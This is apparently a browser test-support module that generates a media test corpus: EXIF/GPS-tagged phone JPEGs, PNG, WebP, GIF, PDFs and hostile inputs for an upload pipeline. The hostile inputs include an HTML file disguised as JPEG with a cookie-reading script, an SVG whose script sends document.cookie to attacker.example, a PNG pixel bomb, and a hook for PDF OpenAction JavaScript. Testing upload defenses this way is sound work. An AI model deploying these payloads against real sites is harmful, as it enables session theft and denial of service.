/**
 * The media test corpus, made in the browser by the tests themselves: phone-like JPEGs with EXIF and GPS,
 * PNG, WebP, a truncated JPEG, files that only pretend to be pictures, a pixel bomb, a GIF and PDFs.
 * Nothing here is a fixture on disk, so the corpus cannot drift from what the tests say it is.
 */

/** A string that must never survive re-encoding: it sits in the GPS block of the phone JPEG. */
export const GPS_SENTINEL = 'AK1-GPS-SENTINEL';
/** The camera make written into IFD0, equally doomed. */
export const MAKE_SENTINEL = 'AK1TestPhone';
/** The latitude seconds as a big-endian rational (1234 / 100), recognisable in a byte scan. */
export const GPS_LATITUDE_SECONDS = [0x00, 0x00, 0x04, 0xd2, 0x00, 0x00, 0x00, 0x64];

const MiB = 1024 * 1024;

/** A deterministic xorshift generator, so the corpus is the same on every run. */
function xorshift(seed: number) {
  let state = seed >>> 0 || 1;
  return () => {
    state ^= state << 13;
    state >>>= 0;
    state ^= state >>> 17;
    state ^= state << 5;
    state >>>= 0;
    return state;
  };
}

export interface PaintOptions {
  width: number;
  height: number;
  /** Noise amplitude around the gradient, 0–255: more noise, bigger files. */
  noise?: number;
  /** Solid squares at raw (pre-orientation) positions, to find where they end up. */
  markers?: { x: number; y: number; size: number; rgb: [number, number, number] }[];
  seed?: number;
  /** Fully transparent pixels in the right half (for PNG alpha flattening). */
  transparentRight?: boolean;
}

/** Paints a gradient with noise and markers into a canvas of the asked size. */
export function paint(options: PaintOptions): HTMLCanvasElement {
  const { width, height, noise = 0, markers = [], seed = 7 } = options;
  const canvas = document.createElement('canvas');
  canvas.width = width;
  canvas.height = height;
  const context = canvas.getContext('2d')!;
  const image = context.createImageData(width, height);
  const data = image.data;
  const random = xorshift(seed);
  for (let y = 0; y < height; y++) {
    const g = Math.round((y / height) * 160) + 40;
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 4;
      const r = Math.round((x / width) * 160) + 40;
      const n = noise ? random() : 0;
      data[i] = clamp(r + ((n & 0xff) * noise) / 255 - noise / 2);
      data[i + 1] = clamp(g + (((n >>> 8) & 0xff) * noise) / 255 - noise / 2);
      data[i + 2] = clamp(120 + (((n >>> 16) & 0xff) * noise) / 255 - noise / 2);
      data[i + 3] = options.transparentRight && x >= width / 2 ? 0 : 255;
    }
  }
  for (const marker of markers) {
    for (let y = marker.y; y < marker.y + marker.size; y++) {
      for (let x = marker.x; x < marker.x + marker.size; x++) {
        const i = (y * width + x) * 4;
        data[i] = marker.rgb[0];
        data[i + 1] = marker.rgb[1];
        data[i + 2] = marker.rgb[2];
        data[i + 3] = 255;
      }
    }
  }
  context.putImageData(image, 0, 0);
  return canvas;
}

function clamp(value: number) {
  return Math.max(0, Math.min(255, Math.round(value)));
}

export async function encode(canvas: HTMLCanvasElement, type: string, quality?: number): Promise<Uint8Array> {
  const blob = await new Promise<Blob | null>((resolve) => canvas.toBlob(resolve, type, quality));
  if (!blob || blob.type !== type) throw new Error(`this browser cannot encode ${type}`);
  return new Uint8Array(await blob.arrayBuffer());
}

/** An APP1 segment with a big-endian EXIF block: make, orientation, and a GPS IFD with a position. */
export function exifSegment(orientation: number): Uint8Array {
  const tiff: number[] = [];
  const u16 = (n: number) => [(n >>> 8) & 0xff, n & 0xff];
  const u32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
  const ascii = (s: string) => [...s].map((c) => c.charCodeAt(0)).concat(0);
  // Layout: header (8) | IFD0 (2 + 3×12 + 4) | GPS IFD (2 + 6×12 + 4) | data
  const ifd0At = 8;
  const gpsAt = ifd0At + 2 + 3 * 12 + 4;
  let dataAt = gpsAt + 2 + 6 * 12 + 4;
  const data: number[] = [];
  const put = (bytes: number[]) => {
    const at = dataAt + data.length;
    data.push(...bytes);
    if (data.length % 2) data.push(0);
    return at;
  };
  const make = ascii(MAKE_SENTINEL);
  const makeAt = put(make);
  const latitude = put([...u32(6), ...u32(1), ...u32(7), ...u32(1), ...GPS_LATITUDE_SECONDS]);
  const longitude = put([...u32(106), ...u32(1), ...u32(9), ...u32(1), ...u32(5678), ...u32(100)]);
  const datum = ascii(GPS_SENTINEL);
  const datumAt = put(datum);
  tiff.push(0x4d, 0x4d, ...u16(42), ...u32(ifd0At));
  tiff.push(...u16(3));
  tiff.push(...u16(0x010f), ...u16(2), ...u32(make.length), ...u32(makeAt));
  tiff.push(...u16(0x0112), ...u16(3), ...u32(1), ...u16(orientation), 0, 0);
  tiff.push(...u16(0x8825), ...u16(4), ...u32(1), ...u32(gpsAt));
  tiff.push(...u32(0));
  tiff.push(...u16(6));
  tiff.push(...u16(0x0000), ...u16(1), ...u32(4), 2, 2, 0, 0);
  tiff.push(...u16(0x0001), ...u16(2), ...u32(2), 0x53, 0, 0, 0);
  tiff.push(...u16(0x0002), ...u16(5), ...u32(3), ...u32(latitude));
  tiff.push(...u16(0x0003), ...u16(2), ...u32(2), 0x45, 0, 0, 0);
  tiff.push(...u16(0x0004), ...u16(5), ...u32(3), ...u32(longitude));
  tiff.push(...u16(0x0012), ...u16(2), ...u32(datum.length), ...u32(datumAt));
  tiff.push(...u32(0));
  tiff.push(...data);
  const body = [...ascii('Exif'), 0, ...tiff];
  return new Uint8Array([0xff, 0xe1, ...u16(body.length + 2), ...body]);
}

/** Inserts segments right after a JPEG's SOI marker. */
export function spliceAfterSoi(jpeg: Uint8Array, ...segments: Uint8Array[]): Uint8Array {
  const total = jpeg.length + segments.reduce((sum, s) => sum + s.length, 0);
  const out = new Uint8Array(total);
  out.set(jpeg.subarray(0, 2), 0);
  let at = 2;
  for (const segment of segments) {
    out.set(segment, at);
    at += segment.length;
  }
  out.set(jpeg.subarray(2), at);
  return out;
}

/** APP15 segments of filler, `bytes` long in all: phones stuff maker notes and depth maps the same way. */
export function paddingSegments(bytes: number): Uint8Array[] {
  const segments: Uint8Array[] = [];
  let left = bytes;
  const random = xorshift(99);
  while (left > 4) {
    const length = Math.min(65535, left - 2);
    const segment = new Uint8Array(length + 2);
    segment[0] = 0xff;
    segment[1] = 0xef;
    segment[2] = length >>> 8;
    segment[3] = length & 0xff;
    for (let i = 4; i < segment.length; i++) segment[i] = random() & 0x7f;
    segments.push(segment);
    left -= segment.length;
  }
  return segments;
}

export interface PhoneJpeg {
  file: File;
  /** Raw (stored) size before the orientation is applied. */
  rawWidth: number;
  rawHeight: number;
}

/**
 * A 4000×3000 phone picture stored landscape with EXIF orientation 6 (rotate 90° clockwise to show), a GPS
 * position, and padded to at least 12 MiB. Red marks the stored top-left corner, blue the stored
 * bottom-left: shown upright, red must be top-right and blue top-left.
 */
export async function phoneJpeg(options: { width?: number; height?: number; minBytes?: number } = {}): Promise<PhoneJpeg> {
  const rawWidth = options.width ?? 4000;
  const rawHeight = options.height ?? 3000;
  const minBytes = options.minBytes ?? 12 * MiB;
  const size = Math.round(rawHeight / 7.5);
  const inset = Math.round(rawHeight / 30);
  const canvas = paint({
    width: rawWidth,
    height: rawHeight,
    noise: 48,
    markers: [
      { x: inset, y: inset, size, rgb: [255, 0, 0] },
      { x: inset, y: rawHeight - inset - size, size, rgb: [0, 0, 255] },
    ],
  });
  const jpeg = await encode(canvas, 'image/jpeg', 0.98);
  canvas.width = canvas.height = 0;
  const exif = exifSegment(6);
  const shortBy = minBytes - jpeg.length - exif.length;
  const bytes = spliceAfterSoi(jpeg, exif, ...(shortBy > 0 ? paddingSegments(shortBy + 8) : []));
  return { file: new File([bytes as BlobPart], 'IMG_20261128_090000.jpg', { type: 'image/jpeg' }), rawWidth, rawHeight };
}

/** A small JPEG with an EXIF orientation, for quick orientation checks. */
export async function orientedJpeg(orientation: number, width = 400, height = 300): Promise<File> {
  const size = Math.round(height / 5);
  const canvas = paint({
    width,
    height,
    markers: [
      { x: 4, y: 4, size, rgb: [255, 0, 0] },
      { x: 4, y: height - 4 - size, size, rgb: [0, 0, 255] },
    ],
  });
  const bytes = spliceAfterSoi(await encode(canvas, 'image/jpeg', 0.95), exifSegment(orientation));
  return new File([bytes as BlobPart], `orientation-${orientation}.jpg`, { type: 'image/jpeg' });
}

export async function pngFile(width = 1200, height = 900, transparentRight = false): Promise<File> {
  const bytes = await encode(paint({ width, height, noise: 8, transparentRight }), 'image/png');
  return new File([bytes as BlobPart], 'screenshot.png', { type: 'image/png' });
}

export async function webpFile(width = 1200, height = 1600): Promise<File> {
  const bytes = await encode(paint({ width, height, noise: 8 }), 'image/webp', 0.9);
  return new File([bytes as BlobPart], 'photo.webp', { type: 'image/webp' });
}

/** A real JPEG cut off in the middle of its picture data, as a failed download leaves it. */
export async function truncatedJpeg(): Promise<File> {
  const bytes = await encode(paint({ width: 1200, height: 1600, noise: 24 }), 'image/jpeg', 0.9);
  return new File([bytes.subarray(0, Math.floor(bytes.length * 0.6)) as BlobPart], 'broken.jpg', { type: 'image/jpeg' });
}

export function htmlAsJpeg(): File {
  const text = '<!doctype html><html><body><script>alert(document.cookie)</script><p>Foto saya</p></body></html>';
  return new File([text], 'foto.jpg', { type: 'image/jpeg' });
}

export function svgWithScript(): File {
  const text =
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="300" height="400">' +
    '<script>fetch("https://attacker.example/?c="+document.cookie)</script><rect width="300" height="400" fill="red"/></svg>';
  return new File([text], 'foto.svg', { type: 'image/svg+xml' });
}

/** A PNG whose header says 20,000 × 20,000 (1.6 GB of pixels) with almost no data behind it. */
export function pngBomb(width = 20000, height = 20000): File {
  const signature = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
  const u32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
  const chunk = (type: string, data: number[]) => {
    const typeBytes = [...type].map((c) => c.charCodeAt(0));
    return [...u32(data.length), ...typeBytes, ...data, ...u32(crc32([...typeBytes, ...data]))];
  };
  const ihdr = chunk('IHDR', [...u32(width), ...u32(height), 8, 2, 0, 0, 0]);
  // A zlib stream of one stored empty block: enough to look like a picture that inflates later.
  const idat = chunk('IDAT', [0x78, 0x01, 0x01, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00, 0x00, 0x01]);
  const iend = chunk('IEND', []);
  return new File([new Uint8Array([...signature, ...ihdr, ...idat, ...iend]) as BlobPart], 'bomb.png', { type: 'image/png' });
}

function crc32(bytes: number[]): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** A 1×1 GIF89a. */
export function gifFile(): File {
  const bytes = [
    0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xff, 0x00, 0x00, 0x00, 0x00, 0x00,
    0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b,
  ];
  return new File([new Uint8Array(bytes) as BlobPart], 'animasi.gif', { type: 'image/gif' });
}

/**
 * A minimal, valid PDF built by hand with a correct cross-reference table. `extraCatalog` goes into the
 * catalogue dictionary (to add `/OpenAction` JavaScript, say); `padTo` grows a content stream until the
 * file is at least that many bytes.
 */
export function pdfBytes(options: { extraCatalog?: string; padTo?: number; trailerExtra?: string } = {}): Uint8Array {
  const text = 'BT /F1 18 Tf 72 720 Td (KTP 3604055209900003) Tj ET';
  const padding = options.padTo ? '%'.padEnd(options.padTo, 'x') : '';
  const content = padding ? `${text}\n${chunkLines(padding)}` : text;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${options.extraCatalog ?? ''}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let body = '%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailerExtra ?? ''}>>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Uint8Array.from(body, (c) => c.charCodeAt(0));
}

function chunkLines(text: string): string {
  return text.replace(/(.{1,120})/g, '%$1\n');
}

export function pdfFile(options: Parameters<typeof pdfBytes>[0] = {}, name = 'ktp.pdf'): File {
  return new File([pdfBytes(options) as BlobPart], name, { type: 'application/pdf' });
}

/** Whether `needle` occurs anywhere in `haystack`. */
export function containsBytes(haystack: Uint8Array, needle: ArrayLike<number> | string): boolean {
  const pattern = typeof needle === 'string' ? Array.from(needle, (c) => c.charCodeAt(0)) : Array.from(needle);
  const first = pattern[0]!;
  let at = haystack.indexOf(first);
  while (at !== -1 && at + pattern.length <= haystack.length) {
    let k = 1;
    while (k < pattern.length && haystack[at + k] === pattern[k]) k++;
    if (k === pattern.length) return true;
    at = haystack.indexOf(first, at + 1);
  }
  return false;
}

export function base64Bytes(base64: string): Uint8Array {
  return Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
}

/** The marker segments of a JPEG up to its first SOS, as `[marker, length]` pairs. */
export function jpegSegments(bytes: Uint8Array): number[] {
  const markers: number[] = [];
  let at = 2;
  while (at + 4 <= bytes.length && bytes[at] === 0xff) {
    const marker = bytes[at + 1]!;
    markers.push(marker);
    if (marker === 0xda) break;
    at += 2 + ((bytes[at + 2]! << 8) | bytes[at + 3]!);
  }
  return markers;
}

/** The bytes of every APP1–APP15 and comment segment before the first scan: where metadata lives. */
export function metadataSegments(bytes: Uint8Array): string[] {
  const found: string[] = [];
  let at = 2;
  while (at + 4 <= bytes.length && bytes[at] === 0xff) {
    const marker = bytes[at + 1]!;
    if (marker === 0xda) break;
    const length = (bytes[at + 2]! << 8) | bytes[at + 3]!;
    if ((marker >= 0xe1 && marker <= 0xef) || marker === 0xfe) {
      found.push(Array.from(bytes.subarray(at, at + 2 + length), (b) => b.toString(16).padStart(2, '0')).join(''));
    }
    at += 2 + length;
  }
  return found;
}

/** Decodes a JPEG (without applying any orientation, there is none left) and reads one pixel. */
export async function pixelsOf(bytes: Uint8Array): Promise<{ width: number; height: number; at: (x: number, y: number) => [number, number, number] }> {
  const bitmap = await createImageBitmap(new Blob([bytes as BlobPart], { type: 'image/jpeg' }));
  const canvas = document.createElement('canvas');
  canvas.width = bitmap.width;
  canvas.height = bitmap.height;
  const context = canvas.getContext('2d', { willReadFrequently: true })!;
  context.drawImage(bitmap, 0, 0);
  bitmap.close();
  const data = context.getImageData(0, 0, canvas.width, canvas.height).data;
  return {
    width: canvas.width,
    height: canvas.height,
    at: (x, y) => {
      const i = (Math.round(y) * canvas.width + Math.round(x)) * 4;
      return [data[i]!, data[i + 1]!, data[i + 2]!];
    },
  };
}

export function isRed([r, g, b]: [number, number, number]) {
  return r > 170 && g < 90 && b < 90;
}

export function isBlue([r, g, b]: [number, number, number]) {
  return b > 170 && r < 90 && g < 90;
}
